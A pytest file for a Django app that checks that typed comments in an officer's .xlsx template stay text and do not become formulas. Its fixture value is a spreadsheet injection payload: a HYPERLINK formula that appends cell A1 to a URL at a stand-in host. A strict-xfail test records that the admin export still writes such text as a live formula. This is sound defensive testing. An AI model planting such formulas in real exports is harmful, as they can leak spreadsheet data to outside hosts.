"""The officer's .xlsx template carries text typed by people (comments, return reasons):
it must stay text, never become a formula, and never break the download."""

import pytest
from django.urls import reverse

from programs.models import CostShare
from tests.returns.helpers import header_index, program, return_url, workbook
from vision.models import FigureStatus

pytestmark = pytest.mark.django_db

HEALTH = "最上地域保健医療対策事業"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"確認")'


@pytest.fixture
def figure(kaneyama, reporting_year):
    return CostShare.objects.create(
        program=program(HEALTH), municipality=kaneyama, fiscal_year=2025, kind="budget",
        amount_kyen=120, status=FigureStatus.RETURNED,
    )  # fmt: skip


def cell(client, header):
    response = client.get(return_url("063614", 2025, "template"))
    assert response.status_code == 200
    ws = workbook(response.content).worksheets[0]
    col = header_index(ws)
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, col["事業ID"]).value == program(HEALTH).pk and ws.cell(r, col["区分"]).value == "予算":  # fmt: skip
            return ws.cell(r, col[header])
    raise AssertionError("row not found")


@pytest.mark.parametrize(
    ("field", "header"), [("comment", "コメント"), ("return_reason", "差戻しの理由")]
)
def test_text_that_starts_like_a_formula_stays_text(officer, figure, field, header):
    setattr(figure, field, FORMULA)
    figure.save()
    written = cell(officer, header)
    assert written.data_type == "s" and written.value == FORMULA


def test_a_control_character_kept_in_a_comment_does_not_break_the_download(officer, figure):
    # The admin's form lets control characters other than NUL through.
    figure.comment = "確認\x01済み\x1b"
    figure.save()
    assert cell(officer, "コメント").value == "確認済み"


@pytest.mark.xfail(
    strict=True,
    reason="vision/admin_access.py exports with django-import-export's XLSX format, which writes "
    "a text starting with '=' as a live formula (tablib's escape=True is not passed)",
)
def test_the_admin_export_keeps_a_formula_like_comment_as_text(client, secretariat, figure):
    figure.comment = FORMULA
    figure.save()
    client.force_login(secretariat)
    response = client.get(reverse("admin:programs_costshare_export"))
    assert response.status_code == 200
    ws = workbook(response.content).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value and str(c.value).endswith('"確認")')]  # fmt: skip
    assert cells and all(c.data_type == "s" for c in cells)
